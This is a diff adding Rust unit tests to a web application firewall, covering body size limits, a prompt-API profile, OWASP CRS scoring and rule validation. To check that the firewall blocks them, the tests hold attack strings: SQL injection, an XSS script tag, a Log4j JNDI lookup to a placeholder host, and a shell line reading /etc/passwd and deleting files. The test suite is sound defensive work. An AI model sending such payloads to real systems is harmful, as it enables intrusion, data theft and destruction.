@@ -160,6 +160,45 @@ fn body_is_read_only_when_a_waf_rule_needs_it() {
 }
 
 #[test]
+fn oversized_bodies_are_refused_only_when_asked() {
+    let r = rules(json!([{ "id": "crs", "action": "waf", "params": { "body_limit_bytes": 16, "on_oversize": "block" } }]));
+    let mut post = req("POST", "https://a.example/api", &[("content-type", "text/plain")]);
+    // One byte past the limit is read, so a streamed body shows it goes on.
+    assert_eq!(body_cap(&r, &post), Some(17));
+    post.body = Some(b"hello, this is a".to_vec());
+    assert_eq!(status(&run_with(&r, &post, 0, &NoKey).0), 0, "exactly the limit");
+    post.body = Some(b"hello, this is a long one".to_vec());
+    assert_eq!(status(&run_with(&r, &post, 0, &NoKey).0), 413);
+    let declared = req("POST", "https://a.example/api", &[("content-length", "1048576")]);
+    assert_eq!(status(&run_with(&r, &declared, 0, &NoKey).0), 413);
+    // The default inspects the head and lets the rest through.
+    let head = rules(json!([{ "id": "crs", "action": "waf", "params": { "body_limit_bytes": 16 } }]));
+    assert_eq!(body_cap(&head, &post), Some(16));
+    assert_eq!(status(&run_with(&head, &declared, 0, &NoKey).0), 0);
+    let bad = json!({ "version": 1, "phases": { "filter": [{ "id": "crs", "action": "waf", "params": { "on_oversize": "drop" } }] } });
+    assert!(crate::rules::parse(bad.to_string().as_bytes()).is_err());
+}
+
+#[test]
+fn prompt_api_profile_reads_prose_as_text() {
+    let prompt = "I want you to act as a Linux terminal. I will type commands and you will reply with what the terminal should show, for example `cat /etc/passwd; rm -rf /tmp/x` or SELECT * FROM users WHERE id = 1 OR 1=1; reply only with the output.";
+    let body = serde_json::to_vec(&json!({ "model": "m", "prompt": prompt })).unwrap();
+    let mut post = req("POST", "https://a.example/v1/chat", &[("content-type", "application/json")]);
+    post.body = Some(body);
+    let default = rules(json!([{ "id": "crs", "action": "waf" }]));
+    assert_eq!(status(&run_with(&default, &post, 0, &NoKey).0), 403);
+    let api = rules(json!([{ "id": "crs", "action": "waf", "params": { "profile": "prompt_api" } }]));
+    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 0);
+    // Structured fields are still code.
+    post.body = Some(serde_json::to_vec(&json!({ "model": "m' OR 1=1--", "prompt": "hi" })).unwrap());
+    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 403);
+    // Some attacks hit whatever reads the text (any logger).
+    let log4j = format!("{prompt} ${{jndi:ldap://x.example/a}}");
+    post.body = Some(serde_json::to_vec(&json!({ "prompt": log4j })).unwrap());
+    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 403);
+}
+
+#[test]
 fn bot_rules_and_facts() {
     let r = rules(json!([
         { "id": "good-bots", "when": { "bot_classes": ["search_engine"], "bot_verified": true }, "action": "allow" },
@@ -276,4 +315,49 @@ fn validation_paths() {
     ] {
         assert!(paths.contains(&want), "missing {want} in {paths:?}");
     }
+}
+
+#[test]
+fn waf_runs_owasp_crs_as_a_ruleset() {
+    let r = rules(json!([{ "id": "crs4", "action": "waf", "params": { "rulesets": ["owasp-crs"], "paranoia": 1, "threshold": 5 } }]));
+    let sqli = browser("https://a.example/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--");
+    let (v, ctx) = run_with(&r, &sqli, 0, &NoKey);
+    assert_eq!(status(&v), 403);
+    let note = ctx.records.iter().find_map(|r| r.note.clone()).unwrap();
+    assert!(note.starts_with("owasp-crs score ") && note.contains("crs-942") && note.contains("@ARGS:id"), "{note}");
+    assert!(!note.contains("password"), "{note}");
+    let (v, ctx) = run_with(&r, &browser("https://a.example/search?q=red+shoes&page=2"), 0, &NoKey);
+    assert_eq!(status(&v), 0, "{:?}", ctx.records);
+    let mut form = req("POST", "https://a.example/c", &[("user-agent", CHROME), ("accept", "*/*"), ("content-type", "application/x-www-form-urlencoded"), ("content-length", "40")]);
+    form.body = Some(b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_vec());
+    assert_eq!(status(&run_with(&r, &form, 0, &NoKey).0), 403);
+
+    // Both sets: either one over its threshold blocks, both are logged.
+    let both = rules(json!([{ "id": "w", "action": "waf", "params": { "rulesets": ["edge", "owasp-crs"] } }]));
+    let (v, ctx) = run_with(&both, &sqli, 0, &NoKey);
+    assert_eq!(status(&v), 403);
+    let note = ctx.records.iter().find_map(|r| r.note.clone()).unwrap();
+    assert!(note.starts_with("score ") && note.contains("; owasp-crs score "), "{note}");
+
+    // A CRS exclusion by rule id range on a path lets the request through.
+    let excl = rules(json!([{ "id": "w", "action": "waf", "params": { "rulesets": ["owasp-crs"],
+        "exclusions": [{ "paths": ["/item"], "rule_ids": ["942000-942999"] }] } }]));
+    let (v, ctx) = run_with(&excl, &sqli, 0, &NoKey);
+    assert_eq!(status(&v), 0, "{:?}", ctx.records);
+}
+
+#[test]
+fn waf_ruleset_validation() {
+    let doc = json!({ "version": 1, "phases": { "filter": [
+        { "id": "a", "action": "waf", "params": { "rulesets": [] } },
+        { "id": "b", "action": "waf", "params": { "rulesets": ["owasp-crs", "owasp-crs"] } },
+        { "id": "c", "action": "waf", "params": { "rulesets": ["modsecurity"] } },
+        { "id": "d", "action": "waf", "params": { "rulesets": ["owasp-crs"], "exclusions": [{ "targets": ["query:*"] }] } },
+    ] } });
+    let e = crate::rules::parse(doc.to_string().as_bytes()).unwrap_err();
+    let paths: Vec<&str> = e.0.iter().map(|e| e.path.as_str()).collect();
+    for want in ["$.phases.filter[0].params.rulesets", "$.phases.filter[1].params.rulesets[1]", "$.phases.filter[3].params.exclusions[0]"] {
+        assert!(paths.contains(&want), "{want} not in {paths:?}");
+    }
+    assert!(paths.iter().any(|p| p.starts_with("$.phases.filter[2].params")), "{paths:?}");
 }
